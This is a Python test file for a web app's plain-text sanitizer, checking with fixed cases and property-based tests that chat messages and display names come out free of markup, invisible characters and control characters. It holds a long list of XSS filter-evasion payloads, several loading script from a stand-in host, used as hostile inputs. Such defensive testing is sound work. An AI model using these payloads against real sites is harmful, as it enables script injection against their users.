"""The plain-text cleaner behind chat messages, display names and addresses: whatever comes in,
what comes out holds no markup a browser would act on, no invisible or reordering character, is
NFC, and keeps the text a reader meant (`a < b` stays `a < b`)."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from dorami_api.chat.service import clean_message
from dorami_api.realtime.replies import SocketError
from dorami_api.web.fields import DisplayName
from dorami_api.web.plain_text import NotPlainText, displayable, plain_text

# What a browser starts a tag, an end tag, a comment or a processing instruction with.
TAG_START = re.compile(r"<[^\W\d_]|</|<!|<\?")
INVISIBLE = set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff"
)
DISPLAY_NAME = TypeAdapter(DisplayName)
CONTROL_BUT_NEWLINE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")

# Filter-evasion payloads in the style of OWASP's XSS cheat sheet, plus the two of the review.
XSS_PAYLOADS = [
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)",
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;svg onload=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<\u200bimg src=x onerror=alert(1)>",
    "<\ufeffscript>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<object data="javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "'';!--\"<XSS>=&{()}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a/href=javascript&colon;alert(1)>x",
    "</",
    "a</",
    "<!",
    "<?",
]

CONTROL_FREE_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",), blacklist_characters="".join(chr(c) for c in range(0x20) if c != 10)
    )
    .filter(lambda ch: not CONTROL_BUT_NEWLINE.match(ch))
    .filter(lambda ch: ch != "\r"),
    max_size=200,
)
MARKUP_PIECES = st.sampled_from(
    ["<", ">", "&", "/", "!", "?", "&lt;", "&gt;", "&amp;", "&#60;", "<b>", "</b>", "\u202e"]
)
HOSTILE_TEXT = st.lists(st.one_of(CONTROL_FREE_TEXT, MARKUP_PIECES, st.sampled_from(XSS_PAYLOADS)), max_size=8).map(
    "".join
)


def assert_plain(text: str) -> None:
    assert not TAG_START.search(text), text
    assert not INVISIBLE.intersection(text), text
    assert unicodedata.is_normalized("NFC", text), text
    assert not CONTROL_BUT_NEWLINE.search(text), text
    assert text == text.strip()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_of_the_corpus_keeps_markup(payload):
    try:
        cleaned = plain_text(payload, multiline=True)
    except NotPlainText:
        return  # refused outright (a tab in the payload): nothing is stored
    assert_plain(cleaned)
    assert "onerror" not in cleaned.lower() or "<" not in cleaned


@settings(max_examples=300, derandomize=True, deadline=None)
@given(HOSTILE_TEXT)
@example("<img src=x onerror=alert(1)//")
@example("<svg/onload=alert(1)")
@example("\u202eevil\u202c<\u200dscript>")
def test_whatever_comes_in_what_comes_out_is_plain(raw):
    try:
        cleaned = plain_text(raw, multiline=True)
    except NotPlainText:
        return
    assert_plain(cleaned)
    assert len(cleaned) <= len(raw) * 3  # NFC may expand a few characters, nothing more
    assert plain_text(cleaned, multiline=True) == cleaned  # cleaning is stable


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.text(max_size=100))
def test_arbitrary_text_is_cleaned_or_refused_never_crashes(raw):
    try:
        cleaned = plain_text(raw)
    except NotPlainText:
        # A control character, a newline, half a surrogate pair, or an entity standing for one.
        assert re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff&]", raw)
        return
    assert_plain(cleaned)
    assert "\n" not in cleaned
    assert_plain(displayable(raw))


@settings(max_examples=200, derandomize=True, deadline=None)
@given(
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Cf", "Zl", "Zp")).filter(lambda c: c not in "<&"),
        max_size=100,
    )
)
def test_text_without_markup_is_kept_as_written(raw):
    assert plain_text(raw) == unicodedata.normalize("NFC", raw).strip()


@pytest.mark.parametrize(
    ("raw", "seen"),
    [
        ("a < b", "a < b"),
        ("1<2 & 3>2", "1<2 & 3>2"),
        ("<3 you", "<3 you"),
        ("Tom &amp; Jerry", "Tom & Jerry"),
        ("  <b>hello</b> <i>there</i> ", "hello there"),
        ("<script>alert(1)</script>ok", "ok"),
        ("e\u0301", "\u00e9"),
        ("\u202eevil\u202c", "evil"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("a</", "a/"),
        ("line 1\r\nline 2", "line 1\nline 2"),
    ],
)
def test_a_reader_sees_the_text_meant(raw, seen):
    assert plain_text(raw, multiline=True) == seen


@pytest.mark.parametrize("raw", ["a\x00b", "a\x1b[31mb", "a\rb", "a\tb", "a\x85b", "a\u2028b", "a&#13;b", "bad\ud800"])
def test_control_characters_are_refused(raw):
    with pytest.raises(NotPlainText):
        plain_text(raw, multiline=True)


def test_a_newline_is_refused_in_a_single_line():
    assert plain_text("two\nlines", multiline=True) == "two\nlines"
    with pytest.raises(NotPlainText):
        plain_text("two\nlines")
    assert displayable("two\nlines<b>!</b>") == "two lines!"


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.one_of(HOSTILE_TEXT, st.text(max_size=700), st.text(alphabet="ab<>& \n", min_size=490, max_size=520)))
def test_a_chat_message_is_refused_or_1_to_500_plain_characters(raw):
    try:
        message = clean_message(raw)
    except SocketError as error:
        assert error.code in ("INVALID_MESSAGE", "MESSAGE_TOO_LONG", "VALIDATION_ERROR")
        return
    assert 1 <= len(message) <= 500
    assert_plain(message)


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.one_of(HOSTILE_TEXT, st.text(max_size=450)))
def test_a_display_name_is_refused_or_1_to_100_plain_characters(raw):
    try:
        name = DISPLAY_NAME.validate_python(raw)
    except ValidationError:
        return
    assert 1 <= len(name) <= 100
    assert_plain(name)
    assert "\n" not in name
